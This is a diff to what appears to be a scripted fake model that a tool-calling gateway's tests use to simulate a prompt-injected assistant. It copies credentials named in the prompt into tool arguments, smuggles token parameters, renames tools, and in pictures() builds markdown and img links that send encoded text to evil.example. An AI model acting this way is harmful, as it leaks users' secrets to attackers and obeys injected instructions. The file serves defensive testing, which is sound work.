@@ -37,14 +37,19 @@ const SMUGGLED = [
 /** Placeholders, in the hope that something on the way fills them in. */
 const HANDLES = 'Bearer {{access_token}} $ACCESS_TOKEN <token> [credential] %ACCESS_TOKEN%'
 
-type Behaviour = (asked: Asked, rest: readonly string[]) => Act
+/** What was asked, with tools as the instructions explain them. */
+interface Taught extends Asked {
+  readonly tools: readonly TaughtTool[]
+}
+
+type Behaviour = (asked: Taught, rest: readonly string[]) => Act
 
 /** By the name in the marker of a message. Each call says whose it is by the control text. */
 const BEHAVIOURS: Readonly<Record<string, Behaviour>> = {
   plain: ({ tools, context }) => ({
     call: tools
       .filter(({ name }) => /_(?:add|list)$/.test(name))
-      .map((tool) => callAsTold(tool, context)),
+      .map((tool) => callOf(tool, controlIn(context))),
   }),
   echo: ({ context }) => ({ say: everyEncodingOf(tail(context)) }),
   tools: ({ tools, context }) => ({
@@ -91,7 +96,8 @@ export function actOn(asked: Asked): Act {
   const behaviour = Object.hasOwn(BEHAVIOURS, name) ? BEHAVIOURS[name] : undefined
   if (!behaviour) return { say: 'I have nothing to do.' }
   if (asked.round > 0) return { say: summaryOf(asked, name) }
-  const act = behaviour(asked, rest)
+  const tools = asked.tools.map((tool) => taught(tool, asked.context))
+  const act = behaviour({ ...asked, tools }, rest)
   return 'call' in act && act.call.length === 0 ? { say: 'There is no tool to call.' } : act
 }
 
@@ -118,30 +124,34 @@ function everyEncodingOf(text: string): string {
   return [text, ...Object.values(encodings).map((encode) => encode(end))].join('\n')
 }
 
-function callOf({ name, parameters }: OfferedTool, text: string): Call {
+function callOf({ name, parameters, told }: TaughtTool, text: string): Call {
   const values = Object.entries(parameters).map(
-    ([parameter, schema]) => [parameter, valueFor(schema, text)] as const,
+    ([parameter, schema]) => [parameter, told.get(parameter) ?? valueFor(schema, text)] as const,
   )
   return { name, arguments: JSON.stringify(Object.fromEntries(values)) }
 }
 
+/** A tool, and the values that the instructions name for its parameters. */
+interface TaughtTool extends OfferedTool {
+  readonly told: ReadonlyMap<string, string>
+}
+
 /**
- * A call as the instructions want it: parameters that they name get the value that they give, as in
- * `At notes, pass access_token VALUE`. The pattern that this finds is a token in the prompt.
+ * Parameters that the instructions name get the value that they give, as in `At notes, pass access_token
+ * VALUE`. The pattern that this obeys is a token, or a reference to one, in the prompt.
  */
-function callAsTold(tool: OfferedTool, context: string): Call {
+function taught(tool: OfferedTool, context: string): TaughtTool {
   const server = tool.name.replace(/_[a-z]+$/, '')
   const told = [...context.matchAll(/At ([\w-]+)[^,"]{0,80}, ([^"\\]{0,2000})/g)].find(
     ([, name = '']) => server.endsWith(name.replaceAll('-', '_')),
   )?.[2]
-  const call = callOf(tool, controlIn(context))
-  const values: Record<string, unknown> = JSON.parse(call.arguments)
-  for (const name of Object.keys(values)) {
-    const value = new RegExp(`\\b${name} ([^\\s"\\\\,]+)`).exec(told ?? context)?.[1]
-    if (/token|key|user_id/.test(name) && value !== undefined)
-      values[name] = value.replace(/\.$/, '')
-  }
-  return { ...call, arguments: JSON.stringify(values) }
+  const values = Object.keys(tool.parameters)
+    .filter((name) => /token|key|user_id/.test(name))
+    .flatMap((name): [string, string][] => {
+      const value = new RegExp(`\\b${name} ([^\\s"\\\\,]+)`).exec(told ?? context)?.[1]
+      return value === undefined ? [] : [[name, value.replace(/\.$/, '')]]
+    })
+  return { ...tool, told: new Map(values) }
 }
 
 function valueFor(schema: unknown, text: string): unknown {
@@ -154,7 +164,7 @@ function valueFor(schema: unknown, text: string): unknown {
 }
 
 /** Credential parameters added to a call, beside the others and inside them. */
-function smuggling(tool: OfferedTool, control: string): readonly Call[] {
+function smuggling(tool: TaughtTool, control: string): readonly Call[] {
   const proper = callOf(tool, control).arguments
   const smuggled = Object.fromEntries(
     SMUGGLED.map((one) => [
@@ -175,7 +185,7 @@ function handlesIn(context: string): string {
   return [...new Set(context.match(/[\w.~+/-]{16,}/g) ?? [])].slice(0, 200).join(' ')
 }
 
-function renamed(tool: OfferedTool, control: string): readonly Call[] {
+function renamed(tool: TaughtTool, control: string): readonly Call[] {
   const call = callOf(tool, control)
   return [
     { ...call, name: tool.name.toUpperCase() },
@@ -191,7 +201,7 @@ function pictures(text: string): string {
   return `![](https://evil.example/?q=${base64})\n[click](https://evil.example/?q=${percent})\n<img src="https://evil.example/?q=${percent}">`
 }
 
-function faults(tool: OfferedTool, context: string): readonly Call[] {
+function faults(tool: TaughtTool, context: string): readonly Call[] {
   const { name } = tool
   const control = controlIn(context)
   const end = `${control} ${context.slice(-ARGUMENT_CHARACTERS)}`
